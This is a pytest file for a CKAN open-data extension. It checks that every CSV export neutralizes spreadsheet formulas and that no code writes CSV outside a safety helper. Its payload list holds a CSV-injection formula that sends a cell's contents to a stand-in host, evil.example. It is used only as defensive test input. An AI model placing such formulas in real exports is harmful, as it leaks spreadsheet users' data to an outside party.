"""Every CSV the project writes goes through harvesters/csv_safe.py, and comes out formula-safe.

The source scan keeps a new CSV writer from bypassing the helper; the per-output tests feed a
spreadsheet formula into each CSV the project offers and read the cell back.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from ckanext.partnercity.harvesters import csv_safe
from ckanext.partnercity.hvd.rules import cli, engine, loaders, report
from ckanext.partnercity.pages import data as pages

ROOT = Path(__file__).resolve().parents[2]
HELPER = Path(csv_safe.__file__).resolve()
SKIP = {".venv", ".local", "node_modules", ".git", "build", "dist"}
WRITERS = {"writer", "DictWriter"}
#: The cells of the issue: a link formula, and a formula after each other starting character.
PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "+1", "-1+2", "@SUM(A1:A2)"]


def _python_files() -> list[Path]:
    return [
        path
        for path in ROOT.rglob("*.py")
        if not SKIP.intersection(path.relative_to(ROOT).parts) and path.resolve() != HELPER
    ]


def csv_writer_uses(source: str) -> list[int]:
    """Lines that make a csv writer: ``csv.writer``/``DictWriter`` under any alias of the
    module, or those names imported from it."""
    tree = ast.parse(source)
    modules, names, lines = set(), set(), []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {a.asname or a.name for a in node.names if a.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            names |= {a.asname or a.name for a in node.names if a.name in WRITERS or a.name == "*"}
            if names:
                lines.append(node.lineno)
    for node in ast.walk(tree):
        attribute = (
            isinstance(node, ast.Attribute)
            and node.attr in WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id in modules
        )
        if attribute or (isinstance(node, ast.Name) and node.id in names):
            lines.append(node.lineno)
    return sorted(set(lines))


def test_the_scan_finds_writers_under_any_spelling():
    assert csv_writer_uses("import csv\ncsv.writer(f)") == [2]
    assert csv_writer_uses("import csv as c\nw = c.DictWriter(f, [])") == [2]
    assert csv_writer_uses("from csv import writer as w\nw(f)") == [1, 2]
    assert csv_writer_uses("import csv\nrows = csv.reader(f)") == []


def test_no_csv_is_written_outside_the_helper():
    files = _python_files()
    assert len(files) > 100  # the scan sees the source tree
    offenders = {
        str(path.relative_to(ROOT)): found
        for path in files
        if (found := csv_writer_uses(path.read_text(encoding="utf-8")))
    }
    assert offenders == {}, "write CSV with harvesters/csv_safe.csv_text instead"
    assert csv_writer_uses(HELPER.read_text(encoding="utf-8"))  # the helper itself does


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


TTL = """@prefix dcat: <http://www.w3.org/ns/dcat#> . @prefix dct: <http://purl.org/dc/terms/> .
@prefix dcatap: <http://data.europa.eu/r5r/> .
<https://city.example/ds/1> a dcat:Dataset ; dct:title {title}@en ;
  dcatap:hvdCategory <http://data.europa.eu/bna/c_63b37dd4> .
"""


def _turtle(title: str) -> str:
    return TTL.format(title='"' + title.replace("\\", "\\\\").replace('"', '\\"') + '"')


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_hvd_report_csv_neutralizes_formulas(payload):
    catalogue = loaders.load(_turtle(payload).encode(), name="c.ttl")
    rows = _cells(report.to_csv(engine.check_catalogue(catalogue)))
    titles = {row[rows[0].index("title")] for row in rows[1:]}
    assert titles == {"'" + payload}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_standalone_cli_csv_neutralizes_formulas(payload, tmp_path):
    source = tmp_path / "catalogue.ttl"
    source.write_text(_turtle(payload), encoding="utf-8")
    out = tmp_path / "report.csv"
    result = CliRunner().invoke(cli.main, ["check", str(source), "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_text(encoding="utf-8"))
    assert len(rows) > 1
    assert {row[1] for row in rows[1:]} == {"'" + payload}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_compare_csv_neutralizes_formulas(payload):
    matrix = {
        "cities": [{"key": "evil", "title": payload}],
        "themes": [{"uri": "https://t.example/1", "label": payload, "counts": {"evil": 2}}],
    }
    header, row = _cells(pages.compare_csv(matrix))
    assert header[2] == row[1] == "'" + payload
    assert row[2] == "2"  # counts stay numbers


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_duties_cli_csv_neutralizes_formulas(payload, tmp_path):
    source = tmp_path / "catalogue.ttl"
    title = f"{payload} Air quality measurements"  # not declared HVD: a duties candidate
    quoted = '"' + title.replace('"', '\\"') + '"'
    source.write_text(
        "@prefix dcat: <http://www.w3.org/ns/dcat#> . @prefix dct: <http://purl.org/dc/terms/> .\n"
        f"<https://city.example/ds/1> a dcat:Dataset ; dct:title {quoted}@en ;\n"
        '  dct:description "Hourly NO2 and PM10 readings of the monitoring stations"@en .\n',
        encoding="utf-8",
    )
    out = tmp_path / "duties.csv"
    args = ["duties", str(source), "--format", "csv", "-o", str(out)]
    result = CliRunner().invoke(cli.main, args)
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_text(encoding="utf-8"))
    assert len(rows) > 1  # the undeclared air-quality dataset is a candidate
    assert {row[rows[0].index("title")] for row in rows[1:]} == {"'" + title}
